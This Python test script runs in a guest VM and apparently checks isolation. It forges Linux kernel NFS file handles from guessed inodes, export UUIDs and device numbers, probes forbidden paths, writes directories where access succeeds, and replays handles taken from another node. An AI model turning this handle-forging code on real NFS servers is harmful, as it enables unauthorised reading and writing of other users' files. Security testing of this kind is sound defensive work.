"""Runs in the guest: what a node reaches with handles that it makes up for the kernel's NFS server.

Standard library and tests.attacks.nfs_client alone. Standard input has a JSON object; see `main`.

A handle of the kernel (linux/fs/nfsd/nfsfh.h): version 1, a zero, the kind of what names the
export, the kind of what names the file, then both. The kinds of files are those of the file
systems (linux/exportfs.h, overlayfs.h).
"""

from __future__ import annotations

import hashlib
import json
import struct
import sys
from collections.abc import Iterator

from tests.attacks.nfs_client import DIRECTORY, NfsClient

EXPORT_SIZES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
NUMBER, ENCODED_DEVICE, UUID, UUID_AND_INODE = 1, 3, 6, 7
ROOT, INO32, INO32_PARENT, INO64, INO64_PARENT, OVERLAY = 0, 1, 2, 0x81, 0x82, 0xF8
_OVERLAY_HEAD = 3 + 5 + 16  # padding; version, magic, size, flags, type; uuid


def export_of(handle: bytes) -> tuple[int, bytes]:
    """Return kind and content of what names the export in a handle."""
    return handle[2], handle[4:4 + EXPORT_SIZES[handle[2]]]


def made(export: tuple[int, bytes], kind: int, file: bytes = b"") -> bytes:
    """Return a handle."""
    return bytes((1, 0, export[0], kind)) + export[1] + file


def files(inode: int, parents: list[int]) -> Iterator[tuple[int, bytes]]:
    """Yield what may name a file by its inode, generation 0 (any one, for ext4)."""
    yield INO32, struct.pack("<II", inode, 0)
    yield INO64, struct.pack("<QI", inode, 0)
    for parent in parents:
        yield INO32_PARENT, struct.pack("<IIII", inode, 0, parent, 0)
        yield INO64_PARENT, struct.pack("<QIQI", inode, 0, parent, 0)


def in_overlay(sample: bytes, uuid: bytes | None, kind: int, file: bytes) -> bytes:
    """Return an overlay's handle of a file of a layer, made from a sample."""
    head = bytearray(sample[:_OVERLAY_HEAD])
    head[5], head[7] = 5 + 16 + len(file), kind
    if uuid is not None:
        head[8:24] = uuid
    return bytes(head) + file


def handles(told: dict, own: dict[str, bytes], sample: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield forged handles, each with what it is."""
    inodes, marked = told["inodes"], told["marked"]
    uuids = [bytes.fromhex(one) for one in told["uuids"]]
    disk = bytes.fromhex(told["disk"])
    parents = [*marked[:2], 2]
    for name, handle in own.items():
        export = export_of(handle)
        wanted = inodes if name in ("image", "persist", "nodes") else inodes[::20]
        for inode in [*wanted, *marked]:
            yield f"{name} inode", made(export, INO32, struct.pack("<II", inode, 0))
        for inode in [*inodes[::50], *marked]:
            for kind, file in files(inode, parents):
                yield f"{name} {kind:#x}", made(export, kind, file)
    sample_export = export_of(sample)
    inner = sample[4 + EXPORT_SIZES[sample[2]]:]
    for uuid in (None, *uuids):
        for inode in [*inodes[::25], *marked]:
            for kind, file in files(inode, parents[:1]):
                file = in_overlay(inner, uuid, kind, file)
                yield f"overlay {kind:#x}", made(sample_export, OVERLAY, file)
    exports = [(NUMBER, struct.pack("<I", number)) for number in range(16)]
    for uuid in uuids:
        exports.append((UUID, uuid))
        exports += [(UUID_AND_INODE, struct.pack("<Q", one) + uuid) for one in [2, *marked]]
    for device in told["devices"]:
        exports += [(ENCODED_DEVICE, struct.pack("<II", device, one)) for one in [2, *marked]]
    for export in exports:
        if export == export_of(own["persist"]):
            continue  # its own one, by its own name
        # The kernel takes each name that an export of the client may have: that of the disk, too.
        what = "persist by its disk" if export[1].endswith(disk) else f"export {export[0]}"
        yield what, made(export, ROOT)
        for inode in [2, *marked]:
            yield what, made(export, INO32, struct.pack("<II", inode, 0))


def main() -> None:
    """Attack, print what was found as JSON.

    Read: `source`, `server`, `minor`, `account`; `own`: paths that the attacker may mount by
    name; `sample`: a path inside of an image; `foreign`: paths that it may not; `inodes`,
    `marked` (of what it wants), `uuids`, `disk` (the one of its own `persist`), `devices`;
    `stolen`: handles of another node.
    """
    told = json.load(sys.stdin)
    client = NfsClient(told["server"], told["source"], told["minor"], told["account"])
    kept: dict = {"refused": 0, "found": [], "made": [], "foreign": [], "own": {}}
    own = {name: client.handle(path) for name, path in told["own"].items()}
    kept["own"] = {name: handle.hex() for name, handle in own.items()}
    for path in told["foreign"]:
        try:
            handle = client.handle(path)
        except OSError:
            continue
        # The directory below a mount is there, and empty.
        found = client.look(handle)
        if (found is not None and found.content) or client.make_directory(handle, "x") == 0:
            kept["foreign"].append(path)
    for what, handle in handles(told, own, client.handle(told["sample"])):
        found = client.look(handle)
        if found is None:
            kept["refused"] += 1
            continue
        names = sorted(found.content.decode("latin-1").split("\n")) \
            if found.kind == DIRECTORY else None
        kept["found"].append({
            "what": what, "inode": found.inode, "kind": found.kind, "names": names,
            "size": len(found.content), "content": hashlib.sha256(found.content).hexdigest(),
        })
        if found.kind == DIRECTORY and not what.startswith("persist"):
            status = client.make_directory(handle, "made-by-attacker")
            if status == 0:
                kept["made"].append([what, found.inode])
    for handle in map(bytes.fromhex, told["stolen"]):
        file = handle[4 + EXPORT_SIZES[handle[2]]:]
        others = own.values() if handle[3] != ROOT else ()
        for one in [handle, *(made(export_of(one), handle[3], file) for one in others)]:
            found = client.look(one)
            if found is not None:
                kept["found"].append({
                    "what": "stolen", "inode": found.inode, "kind": found.kind, "names": None,
                    "size": len(found.content),
                    "content": hashlib.sha256(found.content).hexdigest(),
                })
    print(json.dumps(kept))


if __name__ == "__main__":
    main()
